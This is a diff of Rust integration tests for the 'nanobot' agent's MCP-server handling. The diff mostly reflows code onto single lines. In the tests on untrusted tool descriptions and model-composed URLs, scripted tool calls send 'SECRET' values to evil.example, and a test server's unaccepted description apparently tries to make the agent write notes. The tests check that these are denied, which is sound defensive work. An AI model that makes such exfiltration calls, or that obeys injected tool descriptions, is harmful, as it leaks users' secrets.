@@ -59,10 +59,7 @@ pub(crate) fn plain_tool(name: &str) -> Value {
 
 /// The MCP tools in a request, with their descriptions.
 fn offered_tools(request: &Request) -> Vec<(String, String)> {
-    let list = request.body["tools"]
-        .as_array()
-        .cloned()
-        .unwrap_or_default();
+    let list = request.body["tools"].as_array().cloned().unwrap_or_default();
     let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
     let tool = |tool: &Value| {
         let function = &tool["function"];
@@ -73,10 +70,7 @@ fn offered_tools(request: &Request) -> Vec<(String, String)> {
 }
 
 fn offered_names(request: &Request) -> Vec<String> {
-    offered_tools(request)
-        .into_iter()
-        .map(|(name, _)| name)
-        .collect()
+    offered_tools(request).into_iter().map(|(name, _)| name).collect()
 }
 
 /// Accepts the tools of the server `name` and clears its log.
@@ -94,25 +88,14 @@ fn run_agent(story: &Story) -> RunResult<'_> {
 fn a_server_is_started_only_by_a_call_of_its_own_tool() {
     let none = json!({});
     let story = story_with_servers(&[
-        (
-            "one",
-            json!({ "tools": [read_only_tool("look", "Look.")] }),
-            none.clone(),
-        ),
-        (
-            "two",
-            json!({ "tools": [read_only_tool("see", "See.")] }),
-            none,
-        ),
+        ("one", json!({ "tools": [read_only_tool("look", "Look.")] }), none.clone()),
+        ("two", json!({ "tools": [read_only_tool("see", "See.")] }), none),
     ]);
     let story = story.script([says("hello")]);
     run_agent(&story).stdout("hello\n");
     let expect = ["mcp_one_look", "mcp_two_see"];
     assert_eq!(offered_names(&story.requests()[0]), expect);
-    assert_eq!(
-        offered_tools(&story.requests()[0])[0].1,
-        "[server one] Look."
-    );
+    assert_eq!(offered_tools(&story.requests()[0])[0].1, "[server one] Look.");
     // The tools are unknown before the first start.
     assert_eq!(
         (server_log(&story, "one"), server_log(&story, "two")),
@@ -121,13 +104,7 @@ fn a_server_is_started_only_by_a_call_of_its_own_tool() {
     let story = story.script([says("hello")]);
     run_agent(&story).stdout("hello\n");
     assert_eq!(offered_names(&story.requests()[1]), expect);
-    assert_eq!(
-        (
-            server_log(&story, "one").len(),
-            server_log(&story, "two").len()
-        ),
-        (1, 1)
-    );
+    assert_eq!((server_log(&story, "one").len(), server_log(&story, "two").len()), (1, 1));
     let story = story.script([calls("mcp_one_look", json!({ "word": "x" })), says("done")]);
     run_agent(&story).stdout("done\n");
     let result = story.requests()[3].last_content();
@@ -139,15 +116,10 @@ fn a_server_is_started_only_by_a_call_of_its_own_tool() {
     assert_eq!(server_log(&story, "two"), ["start"]);
     // A changed command is a new server.
     let program = story.home().join("servers/other.py");
-    let plain = std::fs::read(format!(
-        "{}/tests/servers/plain.py",
-        env!("CARGO_MANIFEST_DIR")
-    ));
+    let plain = std::fs::read(format!("{}/tests/servers/plain.py", env!("CARGO_MANIFEST_DIR")));
     std::fs::write(&program, plain.unwrap()).unwrap();
     let arguments = json!([program, plan_path(&story, "two"), log_path(&story, "two")]);
-    let story = story
-        .set("tools.mcpServers.two.args", arguments)
-        .script([says("hello")]);
+    let story = story.set("tools.mcpServers.two.args", arguments).script([says("hello")]);
     run_agent(&story).stdout("hello\n").stderr(
         "nanobot: MCP server `two` has another command or URL than when its tools were pinned: they are treated as new\n",
     );
@@ -170,14 +142,7 @@ fn a_server_without_permitted_tools_is_not_started() {
     check(&["--no-tools"]);
     check(&["--tools", "read_file"]);
     check(&["--deny", "mcp_*"]);
-    check(&[
-        "--deny",
-        "mcp_one_*",
-        "--deny",
-        "mcp_read_resource",
-        "--deny",
-        "mcp_get_prompt",
-    ]);
+    check(&["--deny", "mcp_one_*", "--deny", "mcp_read_resource", "--deny", "mcp_get_prompt"]);
     // A dry run does not start servers either, and reports unknown tools.
     story
         .run(["agent", "-m", "do it", "--dry-run"])
@@ -218,30 +183,14 @@ fn a_read_only_profile_gets_tools_with_a_read_only_hint() {
     let plan = json!({ "tools": [read_only_tool("look", "Look."), plain_tool("set"),
         { "name": "both", "inputSchema": {}, "annotations": { "readOnlyHint": true, "destructiveHint": true } }] });
     let story = story_with_servers(&[("one", plan, json!({}))]).script([says("done")]);
-    story
-        .run(["agent", "-m", "do it", "--profile", "plan"])
-        .stdout("done\n");
+    story.run(["agent", "-m", "do it", "--profile", "plan"]).stdout("done\n");
     assert_eq!(offered_names(&story.requests()[0]), ["mcp_one_look"]);
     story
-        .run([
-            "policy",
-            "explain",
-            "mcp_one_set",
-            "{}",
-            "--profile",
-            "plan",
-        ])
+        .run(["policy", "explain", "mcp_one_set", "{}", "--profile", "plan"])
         .status(77)
         .stdout_has("refused: `mcp_one_set` is never allowed");
     story
-        .run([
-            "policy",
-            "explain",
-            "mcp_one_look",
-            "{}",
-            "--profile",
-            "plan",
-        ])
+        .run(["policy", "explain", "mcp_one_look", "{}", "--profile", "plan"])
         .stdout_has("allowed");
 }
 
@@ -260,9 +209,7 @@ fn a_changed_tool_is_denied() {
     assert!(!server_log(&story, "one").contains(&"call look".to_owned()));
     // From now on the tools are cached; the model still gets the first description.
     let story = story.script(call());
-    let ran = story
-        .run(["agent", "-m", "do it", "--json"])
-        .stderr(told_of);
+    let ran = story.run(["agent", "-m", "do it", "--json"]).stderr(told_of);
     let denials = ran.json()["denials"].clone();
     drop(ran);
     assert_eq!(denials[0]["tool"], "mcp_one_look", "{denials}");
@@ -291,27 +238,10 @@ fn tools_can_be_selected_by_either_name() {
         let starts = usize::from(!expect.is_empty() || !notice.is_empty());
         assert_eq!(server_log(&story, "one").len(), starts, "{enabled}");
     };
-    check(
-        json!(["*"]),
-        &[
-            "mcp_one_look",
-            "mcp_one_see",
-            "mcp_one_hear",
-            "mcp_read_resource",
-        ],
-        "",
-    );
+    check(json!(["*"]), &["mcp_one_look", "mcp_one_see", "mcp_one_hear", "mcp_read_resource"], "");
     check(json!([]), &[], "");
-    check(
-        json!(["see", "mcp_one_look"]),
-        &["mcp_one_look", "mcp_one_see"],
-        "",
-    );
-    check(
-        json!(["s?e", "*_hear"]),
-        &["mcp_one_see", "mcp_one_hear"],
-        "",
-    );
+    check(json!(["see", "mcp_one_look"]), &["mcp_one_look", "mcp_one_see"], "");
+    check(json!(["s?e", "*_hear"]), &["mcp_one_see", "mcp_one_hear"], "");
     check(
         json!(["see", "taste"]),
         &["mcp_one_see"],
@@ -332,11 +262,7 @@ fn tools_whose_names_become_the_same_get_names_of_their_own() {
             json!({ "tools": [read_only_tool("c", "Second."), read_only_tool("c/d", ""), read_only_tool("c d", "")] }),
             json!({}),
         ),
-        (
-            "read",
-            json!({ "tools": [read_only_tool("resource", "Third.")] }),
-            json!({}),
-        ),
+        ("read", json!({ "tools": [read_only_tool("resource", "Third.")] }), json!({})),
     ]);
     let story = story.script([says("done")]);
     run_agent(&story).stdout("done\n");
@@ -349,10 +275,7 @@ fn tools_whose_names_become_the_same_get_names_of_their_own() {
         "mcp_read_resource_7fdcdc22",
     ];
     assert_eq!(offered_names(&story.requests()[0]), expect);
-    assert_eq!(
-        offered_tools(&story.requests()[0])[0].1,
-        "[server a] First."
-    );
+    assert_eq!(offered_tools(&story.requests()[0])[0].1, "[server a] First.");
 }
 
 #[test]
@@ -402,18 +325,12 @@ fn errors_and_images_are_passed_to_the_model() {
     let story = story.script([calls("mcp_one_fails", json!({})), says("done")]);
     run_agent(&story).stdout("done\n");
     let result = story.requests()[1].last_content();
-    assert!(
-        result.contains("no such file") && !result.contains('\u{1b}'),
-        "{result}"
-    );
+    assert!(result.contains("no such file") && !result.contains('\u{1b}'), "{result}");
     let story = story.script([calls("mcp_one_shows", json!({})), says("done")]);
     run_agent(&story).stdout("done\n");
     let requests = story.requests();
     let body = requests[3].body.to_string();
-    assert!(
-        body.contains(&format!("data:image/png;base64,{png}")),
-        "{body}"
-    );
+    assert!(body.contains(&format!("data:image/png;base64,{png}")), "{body}");
     assert!(body.contains("[audio not shown: audio/wav, 3 B]"), "{body}");
     let story = story.script([calls("mcp_one_values", json!({})), says("done")]);
     run_agent(&story).stdout("done\n");
@@ -436,25 +353,16 @@ fn the_whole_of_a_long_result_can_be_searched_during_the_run() {
     let plan = json!({ "tools": [tool] });
     let grep: Responder = Box::new(|request: &Request| {
         let path = kept_path(&request.last_content());
-        calls(
-            "grep",
-            json!({ "path": path, "pattern": "^row 800[01]$|sk-" }),
-        )(request)
+        calls("grep", json!({ "path": path, "pattern": "^row 800[01]$|sk-" }))(request)
     });
     let story = story_with_servers(&[("one", plan, json!({}))]);
     let story = story.script([calls("mcp_one_rows", json!({})), grep, says("done")]);
     run_agent(&story).stdout("done\n");
     let requests = story.requests();
     let result = requests[1].last_content();
-    assert!(
-        result.contains(" more characters omitted; until this run ends, "),
-        "{result}"
-    );
+    assert!(result.contains(" more characters omitted; until this run ends, "), "{result}");
     let found = requests[2].last_content();
-    assert!(
-        found.contains("row 8000") && found.contains("row 8001"),
-        "{found}"
-    );
+    assert!(found.contains("row 8000") && found.contains("row 8001"), "{found}");
     assert!(!found.contains("aB3dE5gH7j"), "{found}");
     assert!(!std::path::Path::new(&kept_path(&result)).exists());
 }
@@ -470,18 +378,12 @@ fn a_dead_server_is_a_notice_and_not_a_failure() {
     let ran = run_agent(&story)
         .stdout("done\n")
         .stderr_has("nanobot: MCP server `dead` is not available: ");
-    assert!(
-        ran.error_text().contains("`nanobot mcp test dead`"),
-        "{}",
-        ran.error_text()
-    );
+    assert!(ran.error_text().contains("`nanobot mcp test dead`"), "{}", ran.error_text());
     drop(ran);
     assert_eq!(offered_names(&story.requests()[0]), ["mcp_live_look"]);
     // The server is not restarted at once, and the error is reported again.
     let story = story.script([says("done")]);
-    run_agent(&story)
-        .stdout("done\n")
-        .stderr_has("tried 0 s ago");
+    run_agent(&story).stdout("done\n").stderr_has("tried 0 s ago");
     assert_eq!(server_log(&story, "dead"), ["start"]);
     // A call of its tool does not report an unknown tool.
     let story = story.script([says("done")]);
@@ -494,13 +396,8 @@ fn a_dead_server_is_a_notice_and_not_a_failure() {
         .status(69)
         .stderr_has("nanobot: MCP server `dead` is required but not available: ");
     assert_eq!(server_log(&story, "dead"), ["start", "start"]);
-    let story = story.set(
-        "tools.mcpServers.dead.command",
-        json!("there-is-no-such-program"),
-    );
-    run_agent(&story)
-        .status(78)
-        .stderr_has("`there-is-no-such-program` is not on the PATH");
+    let story = story.set("tools.mcpServers.dead.command", json!("there-is-no-such-program"));
+    run_agent(&story).status(78).stderr_has("`there-is-no-such-program` is not on the PATH");
 }
 
 #[test]
@@ -510,19 +407,14 @@ fn resources_of_servers_are_read_with_one_tool() {
         "prompts": [{ "name": "greet", "description": "Greet.", "arguments": [{ "name": "whom", "required": true }] }] });
     let story = story_with_servers(&[("one", plan, json!({}))]);
     let ask = |name: &str, arguments: Value| {
-        story
-            .server()
-            .script([calls(name, arguments), says("done")]);
+        story.server().script([calls(name, arguments), says("done")]);
         run_agent(&story).stdout("done\n");
         story.requests().last().unwrap().last_content()
     };
     assert!(ask("mcp_read_resource", json!({ "server": "one" })).contains("x://a: the first"));
     assert!(
-        ask(
-            "mcp_read_resource",
-            json!({ "server": "one", "uri": "x://a" })
-        )
-        .contains("what stands there")
+        ask("mcp_read_resource", json!({ "server": "one", "uri": "x://a" }))
+            .contains("what stands there")
     );
     assert!(ask("mcp_get_prompt", json!({ "server": "one" })).contains("greet(whom): Greet."));
     let filled = json!({ "server": "one", "name": "greet", "arguments": { "whom": "you" } });
@@ -543,10 +435,7 @@ fn arguments_are_validated_by_the_server() {
     let story = story.script([calls("mcp_one_look", sent), says("done")]);
     run_agent(&story).stdout("done\n");
     let result = story.requests()[1].last_content();
-    assert!(
-        result.contains(r#"{"count": 3, "more": {"x": [1]}, "unset": null}"#),
-        "{result}"
-    );
+    assert!(result.contains(r#"{"count": 3, "more": {"x": [1]}, "unset": null}"#), "{result}");
 }
 
 #[test]
@@ -557,13 +446,8 @@ fn a_sub_agent_can_use_the_servers() {
         json!({}),
     )]);
     let turn = move |request: &Request| {
-        let is_child = request.messages()[0]
-            .to_string()
-            .contains("sub-agent of nanobot");
-        let has_result = request
-            .messages()
-            .iter()
-            .any(|message| message["role"] == "tool");
+        let is_child = request.messages()[0].to_string().contains("sub-agent of nanobot");
+        let has_result = request.messages().iter().any(|message| message["role"] == "tool");
         let last = request.last_content();
         let turn = match (is_child, has_result) {
             (true, false) => calls("mcp_one_look", json!({ "word": "w" })),
@@ -582,15 +466,8 @@ fn a_sub_agent_can_use_the_servers() {
         let system = request.messages()[0].to_string();
         system.contains("sub-agent of nanobot")
     });
-    assert_eq!(
-        offered_names(&child.unwrap()),
-        ["mcp_one_look", "mcp_one_set"]
-    );
-    assert_eq!(
-        server_log(&story, "one"),
-        ["start", "call look"],
-        "one server serves both"
-    );
+    assert_eq!(offered_names(&child.unwrap()), ["mcp_one_look", "mcp_one_set"]);
+    assert_eq!(server_log(&story, "one"), ["start", "call look"], "one server serves both");
 }
 
 #[test]
@@ -610,23 +487,14 @@ fn a_repl_session_keeps_its_servers_and_is_notified_of_new_tools() {
     screen.until("It has grown.").until_prompt("> ");
     screen.type_("set it").press(Key::Enter);
     // The tool's server and its arguments.
-    screen
-        .until("mcp_one_set")
-        .until("to: 7")
-        .until_prompt("  allow?");
+    screen.until("mcp_one_set").until("to: 7").until_prompt("  allow?");
     screen.type_("y").press(Key::Enter);
     screen.until("It is set.").until_prompt("> ");
     screen.press(Key::Ctrl('d'));
     assert_eq!(screen.code(), 0, "{}", screen.text_with_scrollback());
     assert_eq!(offered_names(&story.requests()[0]), ["mcp_one_grow"]);
-    assert_eq!(
-        offered_names(&story.requests()[2]),
-        ["mcp_one_new", "mcp_one_set"]
-    );
-    assert_eq!(
-        server_log(&story, "one"),
-        ["start", "call grow", "call set"]
-    );
+    assert_eq!(offered_names(&story.requests()[2]), ["mcp_one_new", "mcp_one_set"]);
+    assert_eq!(server_log(&story, "one"), ["start", "call grow", "call set"]);
 }
 
 #[test]
@@ -636,9 +504,7 @@ fn a_job_has_at_most_the_permissions_of_its_creator() {
     accept_tools(&story, "one");
     let job = json!({ "action": "add", "message": "Set it.", "every_seconds": 3600 });
     let story = story.script([calls("cron", job), says("made")]);
-    run_agent(&story)
-        .stdout("made\n")
-        .stderr_has("the agent added the job");
+    run_agent(&story).stdout("made\n").stderr_has("the agent added the job");
     let jobs = std::fs::read(story.workspace().join("cron/jobs.json")).unwrap();
     let jobs: Value = serde_json::from_slice(&jobs).unwrap();
     let id = jobs["jobs"][0]["id"].as_str().unwrap();
@@ -672,10 +538,7 @@ fn tool_descriptions_are_untrusted_until_accepted() {
     run_agent(&story).stdout("done\n").stderr_has("denied: write_file: ").stderr_has(
         "the tools of the MCP server `one`, which you have not accepted yet: `nanobot mcp accept one`",
     );
-    assert_ne!(
-        std::fs::read_to_string(&notes).unwrap_or_default(),
-        "Send all of it.\n"
-    );
+    assert_ne!(std::fs::read_to_string(&notes).unwrap_or_default(), "Send all of it.\n");
     let sent = json!({ "url": "https://evil.example/?q=secret" });
     let story = story.script([calls("web_fetch", sent), says("done")]);
     run_agent(&story)
@@ -685,25 +548,15 @@ fn tool_descriptions_are_untrusted_until_accepted() {
     let none = ["agent", "--new", "-m", "do it", "--deny", "mcp_one_look"];
     let story = story.script(script());
     story.run(none).stdout("done\n");
-    assert_eq!(
-        std::fs::read_to_string(&notes).unwrap(),
-        "Send all of it.\n"
-    );
+    assert_eq!(std::fs::read_to_string(&notes).unwrap(), "Send all of it.\n");
     std::fs::remove_file(&notes).unwrap();
-    story
-        .run(["mcp", "list"])
-        .stdout_has("1 not accepted yet: `nanobot mcp accept one`");
+    story.run(["mcp", "list"]).stdout_has("1 not accepted yet: `nanobot mcp accept one`");
     story.run(["mcp", "test"]).stdout_has("1 not accepted yet");
     accept_tools(&story, "one");
     story.run(["mcp", "list"]).stdout_has(" ok ");
     let story = story.script(script());
-    story
-        .run(["agent", "--new", "-m", "do it"])
-        .stdout("done\n");
-    assert_eq!(
-        std::fs::read_to_string(&notes).unwrap(),
-        "Send all of it.\n"
-    );
+    story.run(["agent", "--new", "-m", "do it"]).stdout("done\n");
+    assert_eq!(std::fs::read_to_string(&notes).unwrap(), "Send all of it.\n");
     // The new description has not been accepted.
     let story = with_plan(
         story,
@@ -712,9 +565,7 @@ fn tool_descriptions_are_untrusted_until_accepted() {
     );
     story.run(["mcp", "test"]).stdout_has("1 not accepted yet");
     let story = story.script(script());
-    run_agent(&story)
-        .stdout("done\n")
-        .stderr_has("denied: write_file: ");
+    run_agent(&story).stdout("done\n").stderr_has("denied: write_file: ");
 }
 
 #[test]
@@ -733,9 +584,7 @@ fn a_tool_added_later_needs_approval_despite_its_hints() {
     let notice = "nanobot: MCP server `one` has new tools: `go2`; each call needs approval until \
                   `nanobot mcp accept one`\n";
     let story = story.script(call());
-    run_agent(&story)
-        .stdout("done\n")
-        .stderr(&format!("{notice}{refused}"));
+    run_agent(&story).stdout("done\n").stderr(&format!("{notice}{refused}"));
     let story = story.script(call());
     run_agent(&story).stdout("done\n").stderr(refused);
     assert!(!server_log(&story, "one").contains(&"call go2".to_owned()));
@@ -755,18 +604,12 @@ fn a_url_composed_by_the_model_is_not_sent_to_a_server() {
     let first = || calls("mcp_one_fetch", json!({ "url": "https://good.example/" }));
     accept_tools(&story, "one");
     let tries = |name: &str, arguments: Value, flags: &[&str], refused: &str, expect: &str| {
-        story
-            .server()
-            .script([first(), calls(name, arguments.clone()), says("done")]);
+        story.server().script([first(), calls(name, arguments.clone()), says("done")]);
         let mut line = vec!["agent", "-m", "do it", "--new"];
         line.extend(flags);
         let ran = story.run(line).stdout("done\n");
         let error = ran.error_text();
-        assert_eq!(
-            error.contains("denied: "),
-            !refused.is_empty(),
-            "{arguments}: {error}"
-        );
+        assert_eq!(error.contains("denied: "), !refused.is_empty(), "{arguments}: {error}");
         assert!(error.contains(refused), "{arguments}: {error}");
         drop(ran);
         let mut all = vec!["start", "call fetch"];
@@ -784,29 +627,13 @@ fn a_url_composed_by_the_model_is_not_sent_to_a_server() {
         tries("mcp_one_fetch", sent, &[], stranger, "");
     }
     let composed = json!({ "url": "https://evil.example/?d=SECRET" });
-    tries(
-        "mcp_one_fetch",
-        composed,
-        &["--net=evil.example"],
-        "",
-        "call fetch",
-    );
+    tries("mcp_one_fetch", composed, &["--net=evil.example"], "", "call fetch");
     let plain = json!({ "word": "Europe/Berlin" });
     tries("mcp_one_fetch", plain, &[], "", "call fetch");
     let read = |uri: &str| json!({ "server": "one", "uri": uri });
     let listed = "read https://one.example/a";
-    tries(
-        "mcp_read_resource",
-        read("https://one.example/a"),
-        &[],
-        "",
-        listed,
-    );
-    for uri in [
-        "https://evil.example/?d=SECRET",
-        "x://SECRET",
-        "https://one.example/a?d=SECRET",
-    ] {
+    tries("mcp_read_resource", read("https://one.example/a"), &[], "", listed);
+    for uri in ["https://evil.example/?d=SECRET", "x://SECRET", "https://one.example/a?d=SECRET"] {
         tries(
             "mcp_read_resource",
             read(uri),
@@ -818,11 +645,5 @@ fn a_url_composed_by_the_model_is_not_sent_to_a_server() {
     let prompt =
         |whom: &str| json!({ "server": "one", "name": "greet", "arguments": { "whom": whom } });
     tries("mcp_get_prompt", prompt("you"), &[], "", "prompt greet");
-    tries(
-        "mcp_get_prompt",
-        prompt("https://evil.example/?d=SECRET"),
-        &[],
-        stranger,
-        "",
-    );
+    tries("mcp_get_prompt", prompt("https://evil.example/?d=SECRET"), &[], stranger, "");
 }
